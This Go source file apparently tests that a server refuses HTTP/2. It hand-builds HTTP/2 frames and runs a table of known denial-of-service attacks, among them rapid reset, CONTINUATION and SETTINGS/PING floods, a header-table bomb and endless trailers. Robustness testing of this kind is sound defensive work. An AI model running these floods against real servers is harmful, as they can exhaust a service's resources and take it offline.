package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

// The frames of HTTP/2 (RFC 9113, section 6) that the attacks are made of.
const (
	frameData         = 0x0
	frameHeaders      = 0x1
	frameReset        = 0x3
	frameSettings     = 0x4
	framePing         = 0x6
	frameWindow       = 0x8
	frameContinuation = 0x9

	endStream  = 0x1
	endHeaders = 0x4
)

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// frame is a header of nine bytes and the payload.
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	head := make([]byte, 9, 9+len(payload))
	head[0], head[1], head[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	head[3], head[4] = kind, flags
	binary.BigEndian.PutUint32(head[5:], stream)
	return append(head, payload...)
}

// field is one header field as a literal (RFC 7541, section 6.2); index adds it
// to the receiver's table.
func field(index bool, name, value string) []byte {
	out := []byte{0x00}
	if index {
		out[0] = 0x40
	}
	return append(append(append(out, length(len(name))...), name...), append(length(len(value)), value...)...)
}

// length is an integer with a prefix of seven bits (RFC 7541, section 5.1).
func length(n int) []byte {
	if n < 127 {
		return []byte{byte(n)}
	}
	out := []byte{127}
	for n -= 127; n >= 128; n /= 128 {
		out = append(out, byte(n%128)|0x80)
	}
	return append(out, byte(n))
}

func request(method, path string) []byte {
	return bytes.Join([][]byte{field(false, ":method", method), field(false, ":scheme", "https"), field(false, ":path", path), field(false, ":authority", "x")}, nil)
}

// stream writes the frames of the nth request.
type stream func(w io.Writer, id uint32) error

// h2Attacks are what is known to have hurt servers that speak HTTP/2.
var h2Attacks = []struct {
	name     string
	settings []byte
	stream   stream
	every    time.Duration
}{
	{"rapid reset", nil, func(w io.Writer, id uint32) error {
		return write(w, frame(frameHeaders, endHeaders, id, request("POST", "/")), frame(frameReset, 0, id, []byte{0, 0, 0, 8}))
	}, 0},
	{"continuation without end", nil, func(w io.Writer, id uint32) error {
		err := write(w, frame(frameHeaders, 0, id, request("POST", "/")))
		for err == nil {
			err = write(w, frame(frameContinuation, 0, id, field(false, "a", strings.Repeat("x", 16<<10-8))))
		}
		return err
	}, 0},
	{"settings and pings", nil, func(w io.Writer, _ uint32) error {
		return write(w, frame(frameSettings, 0, 0, []byte{0, 4, 0, 0, 0xff, 0xff}), frame(framePing, 0, 0, make([]byte, 8)))
	}, 0},
	{"answers that nobody reads", []byte{0, 4, 0, 0, 0, 0}, func(w io.Writer, id uint32) error {
		return write(w, frame(frameHeaders, endHeaders|endStream, id, request("GET", "/metrics")))
	}, time.Millisecond},
	{"bodies without end", nil, func(w io.Writer, id uint32) error {
		return write(w, frame(frameHeaders, endHeaders, id, append(request("POST", "/"), field(false, "content-length", "4000000")...)),
			frame(frameData, 0, id, make([]byte, 4<<10)), frame(frameWindow, 0, 0, []byte{0, 0, 16, 0}))
	}, time.Millisecond},
	{"header bomb", nil, func(w io.Writer, id uint32) error {
		bomb := append(request("POST", "/"), field(true, "a", strings.Repeat("x", 3900))...)
		return write(w, frame(frameHeaders, endHeaders, id, append(bomb, bytes.Repeat([]byte{0xbe}, 12<<10)...)))
	}, time.Millisecond},
	{"endless trailers", nil, func(w io.Writer, id uint32) error {
		err := write(w, frame(frameHeaders, endHeaders, id, append(request("POST", "/"), field(false, "trailer", "a")...)),
			frame(frameData, 0, id, []byte("[")))
		for i := 0; err == nil && i < 16; i++ {
			err = write(w, frame(frameHeaders, 0, id, field(false, "a", strings.Repeat("x", 16<<10-8))))
		}
		return err
	}, time.Millisecond},
}

func write(w io.Writer, frames ...[]byte) error {
	_, err := w.Write(bytes.Join(frames, nil))
	return err
}

// attackH2 speaks HTTP/2 until it is cut off. What the server says is read, as
// one that nobody reads soon writes no more; it says whether that was HTTP/2.
func attackH2(ctx context.Context, conn net.Conn, settings []byte, each stream, every time.Duration) error {
	if err := write(conn, []byte(preface), frame(frameSettings, 0, 0, settings)); err != nil {
		return nil //nolint:nilerr // cut off
	}
	spoken := make(chan bool, 1)
	go func() {
		first := make([]byte, 9)
		_, err := io.ReadFull(conn, first)
		spoken <- err == nil && first[3] == frameSettings && !bytes.HasPrefix(first, []byte("HTTP/1"))
		_, _ = io.Copy(io.Discard, conn)
	}()
	var err error
	for id := uint32(1); err == nil && ctx.Err() == nil && id < 1<<30; id += 2 {
		err = each(conn, id)
		if every > 0 {
			pause(ctx, every)
		}
	}
	_ = conn.Close() // so that the reader ends
	if <-spoken {
		return errH2
	}
	return nil
}

var errH2 = errors.New("HTTP/2 is spoken: want HTTP/1.1 alone")

// h2c speaks HTTP/2 to a port without TLS, with no word before.
func h2c(ctx context.Context, conn net.Conn) error {
	return attackH2(ctx, conn, nil, h2Attacks[0].stream, 0)
}

// refusedPreface wants the preface to be answered as the HTTP/1.1 request that
// it also is, and the connection to be closed after it.
func refusedPreface(conn net.Conn) error {
	if _, err := io.WriteString(conn, preface); err != nil {
		return nil //nolint:nilerr // cut off
	}
	_ = conn.SetReadDeadline(time.Now().Add(30 * time.Second))
	answer, err := io.ReadAll(io.LimitReader(conn, 64<<10))
	var late net.Error
	switch {
	case errors.As(err, &late) && late.Timeout():
		return fmt.Errorf("HTTP/2's preface: answered %.40q, and the connection stays open", answer)
	case err != nil || len(answer) == 0: // cut off
		return nil
	case !bytes.HasPrefix(answer, []byte("HTTP/1.1 4")) && !bytes.HasPrefix(answer, []byte("HTTP/1.1 505")):
		return fmt.Errorf("HTTP/2's preface: answered %.40q, want a refusal in HTTP/1.1", answer)
	}
	return nil
}
